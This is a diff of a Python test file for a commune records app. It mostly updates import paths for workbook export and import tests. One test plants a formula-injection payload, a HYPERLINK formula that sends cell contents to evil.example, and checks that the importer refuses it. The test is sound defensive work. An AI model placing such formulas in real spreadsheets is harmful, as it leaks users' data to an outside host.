@@ -17,7 +17,7 @@ def _count(db, table="propaganda_activity") -> int:
 
 @pytest.fixture
 def exported(demo_db, tmp_path) -> Path:
-    from commune_desk.services.records_workbook import export_records
+    from commune_desk.services.records.records_workbook import export_records
 
     path = tmp_path / "so-lieu.xlsx"
     export_records(demo_db, path)
@@ -48,7 +48,7 @@ def test_again_imports_a_second_time_and_the_log_has_both(demo_db, empty_db, exp
 
     import openpyxl
 
-    from commune_desk.services.records_import import AlreadyImported, import_records
+    from commune_desk.services.records.records_import import AlreadyImported, import_records
     from commune_desk.storage.import_log import ImportLog
 
     wb = openpyxl.load_workbook(exported)  # propaganda only: no unique codes, so twice means twice as many
@@ -114,13 +114,13 @@ def test_a_plan_catalogue_code_imports(demo_db, tmp_path):
     """A record made with a code from the plan's cat_* sheet exports and imports again (before: refused)."""
     import openpyxl
 
-    from commune_desk.services.records_import import import_records
-    from commune_desk.services.records_workbook import export_records
+    from commune_desk.services.records.records_import import import_records
+    from commune_desk.services.records.records_workbook import export_records
     from commune_desk.storage.database import open_database
     from commune_desk.storage.plan_repo import PlanRepository
     from tests.plans.helpers import simple_plan
 
-    from commune_desk.services.catalogues import default_catalogues
+    from commune_desk.services.plans.catalogues import default_catalogues
 
     forms = [{"code": e.code, "label": e.label} for e in default_catalogues()["activity_forms"].entries]
     forms.append({"code": "loa_luu_dong", "label": "Loa lưu động"})  # the plan's own form
@@ -150,7 +150,7 @@ def test_a_plan_catalogue_code_imports(demo_db, tmp_path):
 
 
 def test_progress_is_reported_and_cancel_stops_before_anything_is_written(demo_db, empty_db, exported):
-    from commune_desk.services.records_import import ImportCancelled, import_records
+    from commune_desk.services.records.records_import import ImportCancelled, import_records
 
     seen = []
     import_records(
@@ -169,7 +169,7 @@ def test_progress_is_reported_and_cancel_stops_before_anything_is_written(demo_d
 
 def test_check_and_write_are_one_transaction(demo_db, empty_db, exported, monkeypatch):
     """A failure in the middle of writing leaves nothing: not the profile, not the units, not the log entry."""
-    from commune_desk.services import records_import
+    from commune_desk.services.records import records_import
     from commune_desk.storage.repos import bulk
 
     real = bulk.bulk_insert
@@ -195,7 +195,7 @@ def test_check_and_write_are_one_transaction(demo_db, empty_db, exported, monkey
 def test_a_formula_cell_is_refused_with_its_place(demo_db, empty_db, exported):
     import openpyxl
 
-    from commune_desk.services.records_import import WorkbookRefused, import_records
+    from commune_desk.services.records.records_import import WorkbookRefused, import_records
 
     wb = openpyxl.load_workbook(exported)
     wb["propaganda"]["D5"] = '=HYPERLINK("http://evil.example/?"&A1,"x")'
